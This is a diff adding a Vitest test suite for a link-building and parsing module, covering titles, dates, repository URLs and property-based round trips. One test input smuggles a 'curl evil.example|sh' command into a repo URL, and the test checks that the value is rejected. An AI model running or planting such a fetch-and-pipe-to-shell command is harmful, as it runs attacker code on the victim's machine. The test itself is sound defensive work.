@@ -1,0 +1,110 @@
+import { describe, expect, test } from 'vitest';
+import fc from 'fast-check';
+import { buildLinkQuery, buildPrepLink, parseDate, parseLinkParams, parseTitle, SETUP_KEYS, type LinkDetails } from './prep-link';
+import { PLATFORM_IDS } from './platform-ids';
+
+describe('parseTitle', () => {
+	test.each([
+		{ raw: 'Deep learning night', value: 'Deep learning night' },
+		{ raw: '  Deep\n\tlearning   night ', value: 'Deep learning night' },
+		{ raw: 'Deep \u202Elearning\u200B', value: 'Deep learning' },
+		{ raw: '<script>alert(1)</script>', value: '<script>alert(1)</script>' },
+		{ raw: 'é'.repeat(120), value: 'é'.repeat(120) },
+	])('reads $raw as $value', ({ raw, value }) => {
+		expect(parseTitle(raw)).toEqual({ ok: true, value });
+	});
+	test.each([
+		{ raw: '', reason: 'empty' },
+		{ raw: '\u200B\u202E ', reason: 'empty' },
+		{ raw: 'x'.repeat(121), reason: 'too-large' },
+		{ raw: 'x'.repeat(10_240), reason: 'too-large' },
+	])('refuses $reason titles', ({ raw, reason }) => {
+		expect(parseTitle(raw)).toEqual({ ok: false, reason });
+	});
+});
+
+describe('parseDate', () => {
+	test.each(['2026-12-03', '2028-02-29', '2000-01-01'])('accepts %s', (raw) => {
+		expect(parseDate(raw)).toEqual({ ok: true, value: raw });
+	});
+	test.each(['2026-02-30', '2027-02-29', '2026-13-01', '2026-00-10', '2026-1-5', '03/12/2026', '1999-12-31', '2026-12-03T10:00', '2026-12-03<x>'])(
+		'refuses %s',
+		(raw) => {
+			expect(parseDate(raw).ok).toBe(false);
+		},
+	);
+});
+
+describe('parseLinkParams', () => {
+	test('reads the acceptance prep link', () => {
+		const params = new URLSearchParams(
+			'title=Deep%20learning%20night&date=2026-12-03&platform=colab&repo=https://github.com/ryanmark1867/dl_structured_data_hands_on',
+		);
+		expect(parseLinkParams(params)).toEqual({
+			details: {
+				title: 'Deep learning night',
+				date: '2026-12-03',
+				platform: 'colab',
+				repo: 'https://github.com/ryanmark1867/dl_structured_data_hands_on',
+			},
+			notices: [],
+		});
+	});
+
+	test('names each refused parameter and keeps the valid ones', () => {
+		const params = new URLSearchParams({ platform: 'cocalc', repo: 'https://github.com/a/b;curl evil.example|sh', branch: 'dev' });
+		const { details, notices } = parseLinkParams(params, SETUP_KEYS);
+		expect(details).toEqual({ platform: 'cocalc', branch: 'dev' });
+		expect(notices).toEqual([{ param: 'repo', value: 'https://github.com/a/b;curl evil.example|sh', reason: 'rejected' }]);
+	});
+
+	test('shows refused values without invisible characters, cut short', () => {
+		const { notices } = parseLinkParams(new URLSearchParams({ repo: `\u202E${'x'.repeat(200)}` }));
+		expect(notices[0]?.value).toMatch(/^x{50,57}…$/);
+	});
+
+	test('ignores title and date where only the setup keys are read', () => {
+		expect(parseLinkParams(new URLSearchParams({ title: 'x', date: 'bad' }), SETUP_KEYS)).toEqual({ details: {}, notices: [] });
+	});
+});
+
+describe('buildPrepLink', () => {
+	test('lists only the given values, in a fixed order', () => {
+		expect(buildPrepLink('/prep/', { repo: 'https://github.com/a/b', title: 'Deep learning night', platform: 'cocalc' })).toBe(
+			'/prep/?title=Deep+learning+night&platform=cocalc&repo=https%3A%2F%2Fgithub.com%2Fa%2Fb',
+		);
+	});
+	test('is the bare path without details', () => {
+		expect(buildPrepLink('/prep/', {})).toBe('/prep/');
+	});
+	test('leaves out values that would be refused', () => {
+		expect(buildLinkQuery({ repo: 'https://evil.example/a/b', branch: 'a;b', date: '2026-02-30' }).toString()).toBe('');
+	});
+
+	const segment = fc.stringMatching(/^[A-Za-z0-9_][A-Za-z0-9._-]{0,11}$/).filter((s) => !s.includes('..') && !s.endsWith('.'));
+	const details: fc.Arbitrary<LinkDetails> = fc.record(
+		{
+			platform: fc.constantFrom(...PLATFORM_IDS),
+			repo: fc
+				.tuple(fc.constantFrom('github.com', 'gitlab.com', 'codeberg.org', 'bitbucket.org'), fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9-]{0,10}$/), segment)
+				.map(([host, owner, name]) => `https://${host}/${owner}/${name.endsWith('.git') ? `${name}x` : name}`),
+			branch: fc.array(segment, { minLength: 1, maxLength: 3 }).map((s) => s.join('/')).filter((b) => !b.endsWith('.lock')),
+			folder: fc.array(segment, { minLength: 1, maxLength: 3 }).map((s) => s.join('/')),
+			notebook: fc.array(segment, { minLength: 0, maxLength: 2 }).map((s) => [...s, 'nb.ipynb'].join('/')),
+			title: fc.string({ minLength: 1, maxLength: 120 }).map((s) => s.replace(/\s+/gu, ' ').trim()).filter((s) => s !== '' && /^[\p{L}\p{N}\p{P}\p{S} ]+$/u.test(s)),
+			date: fc.date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date('2100-12-31T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)),
+		},
+		{ requiredKeys: [] },
+	);
+
+	test('round-trips any valid details through a link', () => {
+		fc.assert(
+			fc.property(details, (d) => {
+				const link = buildPrepLink('/prep/', d);
+				const query = link.includes('?') ? link.slice(link.indexOf('?') + 1) : '';
+				expect(parseLinkParams(new URLSearchParams(query))).toEqual({ details: d, notices: [] });
+			}),
+			{ numRuns: 300 },
+		);
+	});
+});
